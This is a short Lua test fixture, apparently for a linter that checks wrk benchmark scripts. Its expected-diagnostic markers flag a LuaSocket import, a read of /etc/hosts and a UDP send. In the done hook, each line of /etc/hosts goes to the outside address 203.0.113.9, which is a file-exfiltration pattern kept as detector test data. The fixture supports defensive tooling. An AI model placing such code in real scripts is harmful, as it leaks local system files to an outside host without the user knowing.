-- Lines of a local file sent over UDP with LuaSocket (WL301, WL102, WL503 at sendto).

local socket = require "socket" -- want WL301

local udp = socket.udp()
udp:settimeout(1)

function done(summary, latency, requests)
   for line in io.lines("/etc/hosts") do -- want WL102
      udp:sendto(line, "203.0.113.9", 5353) -- want WL503
   end
   udp:sendto("rps " .. summary.requests, "203.0.113.9", 5353)
   udp:close()
end
